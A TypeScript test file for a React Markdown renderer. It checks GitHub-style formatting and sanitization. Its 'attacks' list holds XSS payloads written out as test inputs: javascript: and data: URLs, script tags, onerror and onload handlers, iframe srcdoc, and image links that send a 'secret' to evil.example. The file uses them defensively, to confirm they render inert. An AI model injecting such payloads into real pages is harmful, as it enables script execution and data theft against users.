import fc from "fast-check";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it, vi } from "vitest";
import { finishWithin, growWithin } from "#shared/markdown/bounded-document.ts";
import { emptyDocument } from "#shared/markdown/incremental.ts";
import { Markdown } from "#web/features/library/markdown/markdown.tsx";
import { markdownWithDefinitions } from "../shared/markdown-documents.ts";

// Many generated texts take their time where the processor is shared; nothing here depends on how long.
vi.setConfig({ testTimeout: 120_000 });

function render(text: string, streaming = false): string {
  return renderToStaticMarkup(<Markdown text={text} streaming={streaming} />);
}

/** The markup without classes, styles and icons. */
function bare(text: string): string {
  return render(text)
    .replaceAll(/ (?:class|style|id|tabindex|dir)="[^"]*"/gi, "")
    .replaceAll(/<svg.*?<\/svg>/g, "");
}

interface Tag {
  name: string;
  attributes: Map<string, string>;
}

/** Every element of the markup; React escapes angle brackets in texts and attributes, so these mark the elements. */
function tagsOf(markup: string): Tag[] {
  return [...markup.matchAll(/<([a-z][\w-]*)([^>]*)>/gi)].map(([, name = "", rest = ""]) => ({
    name: name.toLowerCase(),
    attributes: new Map([...rest.matchAll(/([\w:-]+)="([^"]*)"/g)].map(([, key = "", value = ""]) => [key.toLowerCase(), value])),
  }));
}

const harmless = new Set(
  "div p a span strong em del code pre br hr h3 h4 h5 h6 ul ol li input blockquote table thead tbody tr th td button output sup svg path rect circle line polyline polygon".split(
    " ",
  ),
);

/** What in the markup could act, load or lead astray. */
function harmIn(markup: string): string[] {
  return tagsOf(markup).flatMap(({ name, attributes }) => {
    const href = attributes.get("href") ?? "#";
    const leadsAway = name === "a" && !href.startsWith("#");
    const isGuarded = attributes.get("rel") === "noopener noreferrer nofollow" && attributes.get("target") === "_blank";
    return [
      harmless.has(name) ? [] : [`<${name}>`],
      [...attributes.keys()].filter((key) => /^on|^src|^srcdoc$|^formaction$|^xlink/.test(key)),
      /^(?:https?:\/\/|mailto:|tel:|#)/i.test(href) ? [] : [href],
      leadsAway && !isGuarded ? [`unguarded ${href}`] : [],
      /^padding-inline-start:\d+px$/.test(attributes.get("style") ?? "padding-inline-start:0px") ? [] : ["style"],
    ].flat();
  });
}

const attacks = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox)",
  "[x](//evil.example)",
  "[x](/api/auth/logout)",
  "[x]\n\n[x]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "![x](https://evil.example/?q=secret)",
  "![x][i]\n\n[i]: https://evil.example/?q=secret",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "<script>alert(1)</script>",
  "a <img src=x onerror=alert(1)> b",
  "<svg><animate onbegin=alert(1)></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import url(https://evil.example)</style>",
  "<div style='background:url(https://evil.example)'>x</div>",
  "<math><mtext></mtext><script>1</script></math>",
  '| <img src=x onerror="alert(1)"> |\n|---|\n| [x](javascript:1) |',
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
  "$\\href{javascript:alert(1)}{x}$",
  "$$\n\\includegraphics{https://evil.example/x.png}\n$$",
  "[^a]\n\n[^a]: <script>alert(1)</script> [x](javascript:1)",
  '[x](https://a.b "\\"><script>alert(1)</script>")',
  '- [ ] "><script>alert(1)</script>',
  'https://a.b/"onmouseover="alert(1)',
];

it.each(attacks)("hostile markdown renders as harmless text: %s", (text) => {
  expect(harmIn(render(text))).toEqual([]);
  expect(harmIn(render(text, true))).toEqual([]);
});

it("hostile markdown never becomes an element or address that acts, whatever the text", () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(markdownWithDefinitions, fc.constantFrom(...attacks), fc.string({ maxLength: 8 })), { maxLength: 6 }),
      (parts) => {
        expect(harmIn(render(parts.join("")))).toEqual([]);
      },
    ),
    { numRuns: 300 },
  );
});

it("hostile markdown would be noticed if it did act", () => {
  for (const markup of [
    '<img src="x">',
    '<p onclick="x">',
    '<a href="javascript:1">',
    '<a href="https://a.b">',
    '<p style="background:url(x)">',
  ]) {
    expect(harmIn(markup)).not.toEqual([]);
  }
});

it("hostile markdown shows raw HTML as it was written", () => {
  expect(bare("a <b>c</b>")).toContain("<p>a &lt;b&gt;c&lt;/b&gt;</p>");
});

it("links and images open links to the web, mail and telephone in a new tab", () => {
  expect(bare('[a](https://a.b "t")')).toContain(
    '<a href="https://a.b" title="t" target="_blank" rel="noopener noreferrer nofollow">a</a>',
  );
  for (const text of ["https://a.b", "<mailto:a@b.c>", "a@b.cd", "[t](tel:+49)", "[a]\n\n[a]: http://x.y"])
    expect(bare(text)).toContain("<a href");
});

it("links and images name an image and its host instead of loading it", () => {
  expect(bare("![a cat](https://images.example/cat.png)")).toMatch(
    /<a href="https:\/\/images.example\/cat.png".*Image: .*a cat.*images.example/,
  );
  expect(render("![a cat](https://images.example/cat.png)")).not.toContain("<img");
});

it("GitHub's markdown gives headings levels below the turn's own, without gaps", () => {
  expect(bare("## a\n\n#### b\n\n# c\n\n> # d").match(/<(h\d|p)>/g)).toEqual(["<h3>", "<h4>", "<h3>", "<p>"]);
});

it("GitHub's markdown sets tight lists without paragraphs and loose ones with", () => {
  expect(bare("- a\n- b\n  1. c")).toContain('<ul><li><div>a</div></li><li><div>b</div><ol start="1"><li><div>c</div></li></ol></li></ul>');
  expect(bare("3. a\n\n4. b")).toContain('<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>');
});

it("GitHub's markdown labels the checkboxes of tasks, which cannot be changed", () => {
  const markup = render("- [x] done\n- [ ] open");
  const boxes = tagsOf(markup).filter(({ name }) => name === "input");
  expect(boxes.map(({ attributes }) => [attributes.has("checked"), attributes.has("disabled")])).toEqual([
    [true, true],
    [false, true],
  ]);
  for (const { attributes } of boxes) expect(markup).toContain(`id="${attributes.get("aria-labelledby")}"`);
});

it("GitHub's markdown sets tables with heads, figures to the right and a name", () => {
  const markup = render("| Item | Price |\n|---|---|\n| a | €5.00 |\n| b | €12.50 |");
  expect(markup).toContain('aria-label="Table: Item, Price"');
  expect(markup).toMatch(
    /<th scope="col" class="[^"]*text-left[^"]*" dir="auto">Item<\/th><th scope="col" class="[^"]*text-right[^"]*" dir="auto">Price/,
  );
  expect(markup).toMatch(/<td class="[^"]*text-right[^"]*" dir="auto">€5\.00<\/td>/);
});

it("GitHub's markdown breaks a line in a cell at <br>", () => {
  expect(bare("| a |\n|---|\n| b<br>c |")).toContain("<td>b<br/>c</td>");
});

it("GitHub's markdown numbers footnotes by their first call and leads there and back", () => {
  const markup = bare("a[^z] b[^y] c[^z]\n\n[^y]: second\n[^z]: first\n[^unused]: never");
  expect([...markup.matchAll(/aria-label="Footnote (\d)"/g)].map(([, number]) => number)).toEqual(["1", "2", "1"]);
  expect(markup).toMatch(/<ol aria-label="Footnotes"><li><p>first<\/p>.*Back to the text at footnote 1.*<li><p>second/);
  expect(markup).not.toContain("never");
});

it("GitHub's markdown sets quotes, rules, struck text, breaks and code in a line", () => {
  expect(bare("> ~~a~~ **b** *c* `d`  \ne\n\n---")).toContain(
    "<blockquote><p><del>a</del> <strong>b</strong> <em>c</em> <code>d</code><br/>e</p></blockquote><hr/>",
  );
});

describe("code", () => {
  const long = `\`\`\`ts\n${Array.from({ length: 60 }, (_, index) => `line ${index + 1}`).join("\n")}\n\`\`\``;

  it("code has its language and buttons", () => {
    const markup = render('```ts title="a.ts"\nlet a;\n```');
    for (const part of [">ts<", 'aria-label="Wrap lines"', 'aria-label="Copy code"', 'aria-label="Code: ts"', "let a;"])
      expect(markup).toContain(part);
    expect(render("    indented")).toContain(">text<");
  });

  it("code is folded from the 41st line on, while it grows too, and keeps what is folded in the page", () => {
    expect(render(long)).toContain("Show all 60 lines");
    expect(render(long)).toMatch(/<span hidden="" class="[^"]*code-rest[^"]*">line 41/);
    expect(render(long.slice(0, -4), true)).toContain("Show all 60 lines");
    expect(render("```\na\n```")).not.toContain("Show all");
  });
});

it("formulas and diagrams show their source until they are drawn", () => {
  expect(bare("$x^2$")).toContain("<code>x^2</code>");
  expect(bare("$$\nx^2\n$$")).toContain('<span role="group" aria-label="Formula"><code>x^2</code></span>');
  expect(bare("```mermaid\ngraph TD\n```")).toContain("<pre><code>graph TD</code></pre>");
});

it("text from right to left has its direction by paragraph, and in its lists, quotes and tables", () => {
  const markup = render("# שלום\n\nEnglish words.\n\n- שלום **a**\n\n> مرحبا\n\n| שם | b |\n|---|---|\n| `c` | d |");
  expect(markup).toMatch(/<h3 dir="auto"[^>]*>שלום/);
  expect(markup).toMatch(/<p dir="auto">English/);
  expect(markup).toMatch(/<ul dir="rtl"[^>]*><li[^>]*><div dir="auto">שלום/);
  expect(markup).toMatch(/<blockquote dir="rtl"[^>]*><p dir="auto">مرحبا/);
  expect(markup).toMatch(/<table dir="rtl"[^>]*>.*<td class="[^"]*" dir="auto"/);
  expect(render("1. `x` 5 – word")).toContain('<ol dir="ltr"');
});

describe("a text that takes too much work to parse", () => {
  const texts = { "emphasis of two kinds": "*a_ ".repeat(25_000), "quotes in quotes": "> ".repeat(10_000), lists: `${"- ".repeat(300)}a` };

  it.each(Object.entries(texts))(
    "a text that takes too much work to parse is shown as its source, while it grows and when it has ended: %s",
    (_kind, text) => {
      const escaped = text.replaceAll(">", "&gt;");
      expect(bare(text).includes(`<p>${escaped}</p>`)).toBe(true);
      expect(render(text, true).includes(escaped.slice(0, -100))).toBe(true);
    },
  );

  it("a text that takes too much work to parse stays its source as it grows, and another text begins anew", () => {
    let document = emptyDocument;
    for (let end = 4_000; end <= 100_000; end += 4_000) {
      document = growWithin(document, texts["emphasis of two kinds"].slice(0, end));
    }
    expect(document.isSource).toBe(true);
    expect(document.blocks).toEqual([{ start: 0, node: { type: "html", value: texts["emphasis of two kinds"] } }]);
    const other = growWithin(document, "Some *words*");
    expect(other.blocks[0]?.node.type).toBe("paragraph");
    expect(finishWithin(document, "Some")[0]?.node.type).toBe("paragraph");
  });
});

it("rows of a table have the cells of its head, and what thousands of them lack is one", () => {
  const cells = (text: string) => (bare(text).match(/<(?:td|th)\b[^>]*>[^<]*/gi) ?? []).join("");
  expect(cells("|a|b|\n|-|-|\n|1|2|3|\n|4|")).toBe('<th scope="col">a<th scope="col">b<td>1<td>2<td>4<td colSpan="1">');
  const wide = cells(`${"|a".repeat(300)}\n${"|-".repeat(300)}\n${"1\n".repeat(300)}`);
  expect(wide.split("<td>1").length).toBe(301);
  expect(wide.split('<td colSpan="299">').length).toBe(301);
});
